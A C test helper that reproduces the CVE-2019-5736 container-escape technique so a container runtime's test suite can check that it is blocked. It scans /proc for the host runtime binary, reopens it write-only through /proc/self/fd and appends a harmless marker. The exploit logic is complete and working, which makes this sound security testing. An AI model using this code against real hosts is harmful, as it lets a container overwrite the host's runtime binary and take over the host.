/*
 * evil: the malicious process of tests/95-escape.sh, run inside a container.
 *
 *   evil exe DEV:INO STOPFILE
 *	CVE-2019-5736.  Until STOPFILE exists, scan /proc over and over: open
 *	/proc/PID/exe of every other process O_WRONLY, and O_PATH; one O_PATH
 *	fd whose file is DEV:INO (the runtime's binary on the host, as stat
 *	prints st_dev and st_ino) is kept and reopened O_WRONLY through
 *	/proc/self/fd/N on every pass, as the published exploit does.  After
 *	STOPFILE, keep trying the kept fd for 2 more seconds (the runtime's
 *	host processes must be gone for a write open to pass ETXTBSY).
 *	Prints `reached PID COMM` the first time a PID's exe is DEV:INO,
 *	`write direct|reopen PID` when a write open of it succeeded (then
 *	appends "evil" to it, so that a cksum shows it), and last
 *	`done reached=N writes=N`.
 *
 *   evil ids
 *	Prints `uid=U euid=E` (a setuid copy of this shows what it gained).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static dev_t want_dev;
static ino_t want_ino;
static int kept = -1, kept_pid, writes;
static int seen[4096], nseen;

static int
is_target(int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 && st.st_dev == want_dev &&
	       st.st_ino == want_ino;
}

static void
pwn(int fd, const char *how, int pid)
{
	if (!is_target(fd))
		return;
	writes++;
	printf("write %s %d\n", how, pid);
	if (lseek(fd, 0, SEEK_END) >= 0 && write(fd, "evil", 4) != 4)
		printf("append failed: %s\n", strerror(errno));
}

static void
try_kept(void)
{
	char path[64];
	int fd;

	if (kept < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", kept);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	pwn(fd, "reopen", kept_pid);
	close(fd);
	close(kept);
	kept = -1;
}

static void
comm_of(int pid, char *buf, size_t n)
{
	char path[64];
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	buf[0] = 0;
	if ((f = fopen(path, "re"))) {
		if (fgets(buf, (int)n, f))
			buf[strcspn(buf, "\n")] = 0;
		fclose(f);
	}
}

static void
scan(int self)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	char path[64], comm[64];

	if (!d)
		return;
	while ((e = readdir(d))) {
		int pid = atoi(e->d_name), fd, i;

		if (pid <= 0 || pid == self)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			pwn(fd, "direct", pid);
			close(fd);
		}
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (!is_target(fd)) {
			close(fd);
			continue;
		}
		for (i = 0; i < nseen && seen[i] != pid; i++)
			;
		if (i == nseen && nseen < (int)(sizeof(seen) / sizeof(seen[0]))) {
			seen[nseen++] = pid;
			comm_of(pid, comm, sizeof(comm));
			printf("reached %d %s\n", pid, comm);
		}
		if (kept >= 0) {	/* one fd of the binary is enough */
			close(fd);
			continue;
		}
		kept = fd;
		kept_pid = pid;
	}
	closedir(d);
}

static int
exe_main(char **argv)
{
	struct timespec ms10 = { 0, 10000000 };
	unsigned long long dev;
	unsigned long ino;
	int self = getpid();

	if (sscanf(argv[2], "%llu:%lu", &dev, &ino) != 2) {
		fprintf(stderr, "evil: bad DEV:INO %s\n", argv[2]);
		return 2;
	}
	want_dev = (dev_t)dev;
	want_ino = (ino_t)ino;
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("scanning\n");
	while (access(argv[3], F_OK) < 0) {
		scan(self);
		try_kept();
	}
	for (int i = 0; i < 200; i++) {
		try_kept();
		nanosleep(&ms10, NULL);
	}
	printf("done reached=%d writes=%d\n", nseen, writes);
	return 0;
}

int
main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "ids")) {
		printf("uid=%d euid=%d\n", (int)getuid(), (int)geteuid());
		return 0;
	}
	if (argc == 4 && !strcmp(argv[1], "exe"))
		return exe_main(argv);
	fprintf(stderr, "usage: evil exe DEV:INO STOPFILE | evil ids\n");
	return 2;
}
